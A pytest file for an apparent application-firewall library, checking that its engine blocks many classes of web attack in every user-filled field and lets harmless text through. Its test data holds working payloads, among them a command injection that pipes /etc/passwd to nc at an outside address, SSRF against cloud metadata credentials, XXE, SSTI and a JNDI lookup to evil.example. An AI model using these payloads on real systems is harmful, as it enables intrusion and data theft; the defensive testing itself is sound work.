"""Attacks of every class in every place of every framework that a user fills: blocked, in the exact field."""

from __future__ import annotations

import pytest

from framewall.detect import builtin_engine
from framewall.model import ATTACKS
from framewall.replay import Lines
from support.places import HARMLESS, PLACES, Place

TEXTS = {
    "xss": "<script>alert(1)</script>",
    "sqli": "' UNION SELECT password FROM users--",
    "nosqli": '{"$where":"this.password.length > 0"}',
    "rce": "; cat /etc/passwd | nc 10.0.0.1 4444",
    "path_traversal": "../../../../etc/passwd",
    "rfi": "php://filter/convert.base64-encode/resource=index.php",
    "ssrf": "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "ssti": "{{''.__class__.__mro__[1].__subclasses__()}}",
    "ssi": '<!--#exec cmd="id"-->',
    "xxe": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "ldapi": "*)(uid=*))(|(uid=*",
    "xpath": "' or count(//user/child::node())=1 or 'a'='b",
    "crlf": "x\r\nSet-Cookie: session=1\r\nContent-Length: 0\r\n\r\n<html>",
    "mail_injection": "a@example.com\r\nBcc: everybody@evil.example\r\nSubject: x",
    "jndi": "${jndi:ldap://evil.example/a}",
    "deserialization": "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw",
    "prototype_pollution": '{"__proto__":{"isAdmin":true}}',
    "graphql": "query IntrospectionQuery{__schema{types{name fields{name}}}}",
    "data_bomb": '{"a":' * 300 + "1" + "}" * 300,
}
NO_TEXT = {
    "protocol": "what no reader of the framework's understands; every decoder's tests have it",
    "cswsh": "a handshake's Origin",
    "flood": "too many messages",
    "leak": "what a server says",
    "mass_assignment": "ships without a rule: which members are meant for the client only the route knows",
    "prompt_injection": "ships without a score, so it is told and not blocked",
}
ANYWHERE = {"data_bomb"}
"""A limit is reached in whichever reading of the message comes to it first."""
ENGINE = builtin_engine()


def test_no_class_is_left_out() -> None:
    """Those without a text have a reason."""
    assert {*TEXTS, *NO_TEXT} == set(ATTACKS)


@pytest.mark.parametrize("place", PLACES, ids=lambda place: f"{place.framework}, {place.name}")
def test_attacks_of_every_class_are_blocked_where_they_are(place: Place) -> None:
    """With the class and the field; and harmless words pass there."""
    missed = []
    for attack, text in TEXTS.items():
        if place.one_line and "\n" in text:
            continue
        judge = Lines(ENGINE)
        answers = [judge.judge(line) for line in place.lines(text)]
        fields = [each["field"] for each in answers[-1]["findings"] if each["attack"] == attack]
        there = any(field.startswith(place.fields) for field in fields)
        if answers[-1]["verdict"] != "block" or not fields or not (there or attack in ANYWHERE):
            seen = [(each["attack"], each["field"]) for each in answers[-1]["findings"]]
            missed.append((attack, answers[-1]["verdict"], seen[:4]))
    assert not missed
    judge = Lines(ENGINE)
    for line in place.lines(HARMLESS):
        assert judge.judge(line)["findings"] == []
